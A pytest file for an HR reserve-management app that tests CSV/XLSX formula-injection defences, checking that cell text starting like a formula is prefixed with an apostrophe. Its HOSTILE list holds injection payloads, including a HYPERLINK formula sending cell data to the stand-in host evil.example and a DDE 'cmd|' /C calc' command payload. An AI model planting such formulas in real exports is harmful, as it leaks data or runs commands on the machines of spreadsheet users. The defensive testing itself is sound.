"""Text people type reaches HR's spreadsheets as text: a reserve member's position or a
programme event that starts like a formula is written with a leading apostrophe in the
reserve list's XLSX and CSV and in the programme report, while numbers and dates stay
typed. The organization registry's template (core/files/tabular.py) follows the same rule."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from reserve_flow.core.files import tables, tabular
from reserve_flow.reserve.models.membership import ReserveMembership
from reserve_flow.reserve.models.programme import ReserveProgramme
from tests.fixtures.reserve import post

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Подробнее")',
    "+7-900-000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert tables.neutralised(text) == "'" + text
    assert tables.cell_value(text) == "'" + text


def test_plain_text_numbers_and_dates_are_left_alone():
    assert tables.neutralised("директор школы") == "директор школы"
    assert tables.neutralised("Анна-Мария") == "Анна-Мария"  # a hyphen inside is not a formula
    for value in (-5, -2.5, 0, True, date(2026, 11, 25), None):
        assert tables.cell_value(value) == value
    assert tabular._csv_cell(-2.5) == "-2,5"  # a real negative number is not text to neutralise


def test_the_reserve_exports_write_typed_formulas_as_text(runtime, reserve, client, auth):
    with runtime.transaction() as s:
        first, second = s.get(ReserveMembership, reserve.first), s.get(ReserveMembership, reserve.second)
        first.user.position = HOSTILE[0]
        second.user.position = HOSTILE[4]
    auth.login("hr@example.ru")

    book = load_workbook(io.BytesIO(client.get("/reserve/export.xlsx").data))
    sheet = book.active
    rows = list(sheet.iter_rows(min_row=4))
    positions = {row[1].value: row[3] for row in rows}
    assert positions["Заявителева Елена Андреевна"].value == "'" + HOSTILE[0]
    assert positions["Второв Сергей Павлович"].value == "'" + HOSTILE[4]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert isinstance(rows[0][0].value, int) and rows[0][6].value.date() == date(2026, 11, 25)  # still typed

    text = client.get("/reserve/export.csv").data.decode("utf-8").lstrip("\ufeff")
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    by_name = {row[1]: row for row in table[1:]}
    assert by_name["Заявителева Елена Андреевна"][3] == "'" + HOSTILE[0]
    assert by_name["Второв Сергей Павлович"][3] == "'" + HOSTILE[4]
    assert by_name["Второв Сергей Павлович"][0] == "1"


def test_the_programme_report_writes_typed_formulas_as_text(runtime, reserve, client, auth):
    auth.login("hr@example.ru")
    form = {"title": "=1+1 Программа", "first_year": "2026", "last_year": "2027", "approved_by": "-постановление"}
    assert post(client, "/programme/", form, token_from="/programme/").status_code == 303
    with runtime.sessions() as s:
        programme_id = s.scalars(select(ReserveProgramme.id)).one()
    base = f"/programme/{programme_id}"
    event = {"year": "2026", "title": "@Семинар", "planned_on": "2026-12-01", "responsible": ' =HYPERLINK("x")'}
    assert post(client, f"{base}/events", event, token_from=base).status_code == 303

    book = load_workbook(io.BytesIO(client.get(f"{base}/report/2026.xlsx").data))
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
    assert "«=1+1 Программа»" in book["Показатели"]["A1"].value  # inside the caption: harmless, left as typed
    title, planned_on, responsible = next(book["Мероприятия"].iter_rows(min_row=4, max_col=3, values_only=True))
    assert (title, responsible) == ("'@Семинар", '\'=HYPERLINK("x")')  # the form trims the spaces
    assert planned_on.date() == date(2026, 12, 1)


def test_the_registry_template_uses_the_same_rule():
    book = load_workbook(io.BytesIO(tabular.write_xlsx([tabular.Sheet("Лист", ["A", "B"], [["-1+1", -1]])])))
    assert [c.value for c in book.active[2]] == ["'-1+1", -1]
    text = tabular.write_csv(["A"], [["\t=1"], ["-cmd"]]).decode("utf-8").lstrip("\ufeff")
    assert text.splitlines()[1:] == ["'\t=1", "'-cmd"]


def test_a_neutralised_file_reads_back_as_it_was_typed():
    rows = [["=1+1", "'plain", "-"]]
    for content, name in (
        (tabular.write_xlsx([tabular.Sheet("Лист", ["A", "B", "C"], rows)]), "x.xlsx"),
        (tabular.write_csv(["A", "B", "C"], rows), "x.csv"),
    ):
        assert tabular.read_table(content, name).rows[0].values == {"A": "=1+1", "B": "'plain", "C": "-"}
